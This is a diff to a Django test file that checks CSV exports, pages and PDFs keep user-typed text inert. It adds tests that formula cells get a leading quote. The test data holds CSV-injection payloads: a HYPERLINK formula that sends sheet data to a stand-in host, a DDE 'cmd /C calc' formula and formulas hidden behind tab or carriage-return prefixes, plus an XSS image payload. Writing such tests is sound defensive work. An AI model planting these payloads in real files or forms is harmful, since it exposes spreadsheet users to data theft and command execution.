@@ -1,12 +1,15 @@
-"""Whatever is typed stays text: escaped in every page and fragment, inert in the PDFs.
+"""Whatever is typed stays text: escaped in every page and fragment, inert in the PDFs, and
+text in the CSV files (a formula gets a quote in front, everything else reads back as it was).
 
 Tips hold script, an image with an error handler, htmx attributes that would fetch a page,
-template syntax, direction overrides, zero-width characters, emoji; a follow-up holds
-10 000 characters. Nothing of it runs, fetches, or turns the page around.
+template syntax, direction overrides, zero-width characters, emoji, spreadsheet formulas; a
+follow-up holds 10 000 characters. Nothing of it runs, fetches, calculates, or turns the page
+around.
 """
 
 from __future__ import annotations
 
+import csv
 import io
 import uuid
 
@@ -14,11 +17,12 @@ import pytest
 from django.urls import reverse
 from pypdf import PdfReader
 
-from sessions.models import Step, Tip
+from sessions.models import Step, Tip, TipOutcome
 from sessions.services.follow_up import record_outcome
 from sessions.services.live import go_to_step
 from sessions.services.tips import choose_tip
 from tests.clients import HTMX, english_client
+from tests.factories import TipFactory
 
 HOSTILE = [
     "<script>alert('tip')</script>",
@@ -107,3 +111,89 @@ def test_hostile_text_prints_as_text_in_the_pdfs_with_emoji(tips, case, facilita
     assert any("Symbola" in font for font in pdf_fonts(response.content)), "no emoji font"
     if report == "reports:case_pdf":
         assert text.count("Waarom het niet lukte.") >= 400  # all 10 000 characters printed
+
+
+# CSV files: every cell reads back as typed; a formula is text -------------------------------
+
+# What a spreadsheet would calculate: a link that sends the sheet's data away, a command.
+FORMULAS = [
+    '=HYPERLINK("https://voorbeeld.example/?"&A1;"Klik hier")',
+    "+SUM(A1:A9)",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+]
+
+
+def read_csv(response) -> list[dict[str, str]]:
+    assert response.status_code == 200
+    text = response.content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
+    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
+
+
+def client_csv(case, coordinator) -> list[dict[str, str]]:
+    url = reverse("casework:client_export", args=[case.client_id])
+    return read_csv(english_client(coordinator).get(url))
+
+
+def add_tips(case, facilitator, texts) -> None:
+    client = english_client(facilitator)
+    goal, column = case.goals.first(), case.meeting.network.matrix.columns.first()
+    for text in texts:
+        response = client.post(
+            reverse("casework:add_tip", args=[case.pk]),
+            {"key": str(uuid.uuid4()), "text": text, "domain": goal.domain_id, "column": column.pk},
+            **HTMX,
+        )
+        assert response.status_code == 200
+        assert Tip.objects.filter(case=case, text=text).exists(), text
+
+
+def test_hostile_text_reads_back_unchanged_from_the_client_csv(tips, case, coordinator):
+    rows = client_csv(case, coordinator)
+    in_file = [row["Text"] for row in rows if row["Kind"] == "tip"]
+    assert in_file == [tip.text for tip in tips]  # as stored, in the order given
+    untouched = [text for text in HOSTILE if "\u202e" not in text and "\u200b" not in text]
+    assert set(untouched) <= set(in_file)  # what was typed, character for character
+    chosen = next(row for row in rows if row["Kind"] == "tip" and row["Text"] == HOSTILE[0])
+    assert chosen["Action: what"] == "<b>vet</b>"
+    follow_up = next(row for row in rows if row["Kind"] == "follow-up")
+    # All 10 000 characters in one cell (as stored: the service trims the last space).
+    assert follow_up["Why"] == TipOutcome.objects.get().why == LONG.strip()
+    assert len(follow_up["Why"]) > 10_000
+
+
+def test_formula_cells_are_text_in_the_client_csv(case, facilitator, coordinator):
+    go_to_step(case=case, step=Step.TIPS)
+    add_tips(case, facilitator, FORMULAS)
+    # What a form would not keep (it trims), stored as the admin could: a tab, a carriage
+    # return or spaces before the formula.
+    hidden_starts = ["\t=1+1", "\r=1+1", "  =1+1"]
+    for text in hidden_starts:
+        TipFactory(case=case, text=text)
+    case.question = "=1+1\nwat denkt de groep?"
+    case.save()
+
+    rows = client_csv(case, coordinator)
+    in_file = [row["Text"] for row in rows if row["Kind"] == "tip"]
+    assert in_file == ["'" + text for text in [*FORMULAS, *hidden_starts]]
+    question = next(row["Text"] for row in rows if row["Field"] == "Question to the group")
+    assert question == "'=1+1\nwat denkt de groep?"
+    assert all(
+        not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values()
+    )
+
+
+def test_hostile_names_are_text_in_the_access_log_csv(case, coordinator):
+    from tests.guests import join_as
+
+    go_to_step(case=case, step=Step.TIPS)
+    names = [FORMULAS[0][:60], "<img src=x onerror=alert(1)>"]
+    for name in names:
+        phone = join_as(case.meeting, name)
+        assert phone.get(reverse("casework:phone", args=[case.meeting_id])).status_code == 200
+    url = reverse("accounts:access_log_csv", args=[case.meeting.network_id])
+    who = [row["Who"] for row in read_csv(english_client(coordinator).get(url))]
+    guest = {guest.display_name: guest.pk for guest in case.meeting.guests.all()}
+    assert f"'{names[0]} (guest {guest[names[0]]})" in who
+    assert f"{names[1]} (guest {guest[names[1]]})" in who
